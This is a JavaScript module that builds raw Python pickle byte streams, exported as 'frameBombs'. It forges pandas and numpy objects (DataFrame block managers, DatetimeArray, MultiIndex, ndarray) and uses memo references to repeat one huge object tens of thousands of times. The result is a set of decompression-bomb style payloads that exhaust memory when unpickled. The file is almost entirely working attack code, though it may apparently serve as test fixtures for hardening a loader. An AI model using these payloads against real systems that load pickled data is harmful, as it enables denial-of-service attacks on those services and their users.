// Pickles of pandas that are small and want a lot: what is stated once is referred to by many.

const parts = (...all) =>
  Buffer.concat(
    all.map((part) => (typeof part === "string" ? Buffer.from(part, "latin1") : Buffer.from(part))),
  );
const repeat = (part, count) => Buffer.concat(Array.from({ length: count }, () => parts(part)));
const global = (name) => {
  const at = name.lastIndexOf(".");
  return parts(`c${name.slice(0, at)}\n${name.slice(at + 1)}\n`);
};
const text = (content) => parts("X", Uint8Array.of(content.length, 0, 0, 0), content);
const int = (value) => parts(`I${value}\n`);
const tuple = (...items) => parts("(", ...items, "t");
const dict = (entries) =>
  parts("}(", ...Object.entries(entries).flatMap(([key, value]) => [text(key), value]), "u");
/** Puts a value under the next number of the memo and takes it from the stack. */
const kept = (value) => parts(value, [0x94], "0");
const memo = (number) => parts("h", [number]);
const many = (setUp, each, count) => parts([0x80, 4], setUp, "](", repeat(each, count), "e.");

const range = (stop) =>
  parts(
    global("pandas.core.indexes.base._new_Index"),
    tuple(global("pandas.RangeIndex"), dict({ name: "N", start: int(0), stop: int(stop), step: int(1) })),
    "R",
  );
const manager = (blocks, columns) =>
  parts(
    global("pandas.core.internals.managers.BlockManager"),
    tuple(tuple(blocks), parts("](", range(columns), range(0), "e")),
    "R",
  );
const array = (code, shape, bytes = "C\0") =>
  parts(
    global("numpy.core.multiarray._reconstruct"),
    tuple(global("numpy.ndarray"), tuple(int(0)), "C\x01b"),
    "R",
    tuple(int(1), tuple(...shape.map(int)), dtype(code), [0x89], bytes),
    "b",
  );
const dtype = (code) => {
  const unit = tuple("N", tuple("C\x02us", int(1), int(1), int(1)));
  const state = [int(code === "M8" ? 4 : 3), text("<"), "N", "N", "N", int(-1), int(-1), int(0)];
  return parts(
    global("numpy.dtype"),
    tuple(text(code), [0x89], [0x88]),
    "R",
    tuple(...state, ...(code === "M8" ? [unit] : [])),
    "b",
  );
};

/** By name, each made when it is asked for. */
export const frameBombs = {
  "frames of the same blocks": () =>
    many(
      [...kept(global("pandas.DataFrame")), ...kept(dict({ _mgr: manager(repeat("N", 20_000), 20_000) }))],
      parts(memo(0), ")", [0x81], memo(1), "b"),
      20_000,
    ),
  "moments of the same rows": () =>
    many(
      [
        ...kept(global("pandas._libs.arrays.__pyx_unpickle_NDArrayBacked")),
        ...kept(tuple(global("pandas.arrays.DatetimeArray"), int(0), "N")),
        ...kept(tuple(dtype("M8"), array("M8", [100_000_000, 0]), dict({}))),
      ],
      parts(memo(0), memo(1), "R", memo(2), "b"),
      20_000,
    ),
  "indices of the same levels": () =>
    many(
      [
        ...kept(global("pandas.core.indexes.base._new_Index")),
        ...kept(range(0)),
        ...kept(array("i4", [0])),
        ...kept(
          tuple(
            global("pandas.MultiIndex"),
            dict({
              levels: parts("](", repeat(memo(1), 20_000), "e"),
              codes: parts("](", repeat(memo(2), 20_000), "e"),
              names: "]",
            }),
          ),
        ),
      ],
      parts(memo(0), memo(3), "R"),
      20_000,
    ),
  "halves of the same bytes": () => {
    const size = 1_000_000;
    const bytes = parts("B", [size & 255, (size >> 8) & 255, (size >> 16) & 255, 0], Buffer.alloc(size, 1));
    return many(
      [
        ...kept(global("numpy.core.multiarray._reconstruct")),
        ...kept(tuple(global("numpy.ndarray"), tuple(int(0)), "C\x01b")),
        ...kept(tuple(int(1), tuple(int(size / 2)), dtype("f2"), [0x89], bytes)),
      ],
      parts(memo(0), memo(1), "R", memo(2), "b"),
      20_000,
    );
  },
};
